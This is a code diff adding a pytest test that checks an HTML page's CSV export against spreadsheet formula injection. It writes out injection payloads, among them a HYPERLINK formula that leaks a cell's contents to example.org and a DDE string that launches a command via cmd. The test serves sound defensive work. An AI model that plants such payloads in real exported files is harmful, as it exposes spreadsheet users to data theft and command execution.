@@ -411,6 +411,41 @@ def test_the_file_holds_what_is_known_of_the_selected_notes_and_no_text(
     assert one.is_clean()
 
 
+@pytest.mark.parametrize(
+    "harmful",
+    [
+        '=HYPERLINK("http://example.org?x="&A1,"open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_no_cell_of_the_file_is_a_formula_to_a_spreadsheet(
+    opened: Opener, tmp_path: Path, shown_texts: list[str], harmful: str
+) -> None:
+    payload = synthetic_payload(NOTES, SPECIALTIES)
+    payload["slices"][0]["name"] = harmful
+    payload["slices"][0]["values"][0] = harmful
+    payload["notes"]["source"] = [f"{harmful}:{row}" for row in range(NOTES)]
+    file = tmp_path / "harmful.html"
+    file.write_bytes(render_page(payload, shown_texts))
+    one = opened(file)
+    text = one.ask("medembedPage.selection.csv(medembedPage.app.report, [0, 1, 2, 3, 4, 5, 6, 7])")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [
+        cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and cell.strip()
+    ]
+    # An apostrophe is all that is added.
+    assert rows[0].count(f"'{harmful}") == 1
+    assert [row[-1] for row in rows[1:]] == [f"'{harmful}:{row}" for row in range(8)]
+    assert one.is_clean()
+
+
 def test_what_is_selected_is_summed_up_and_listed(
     opened: Opener, page_path: Path, shown_payload: dict[str, Any]
 ) -> None:
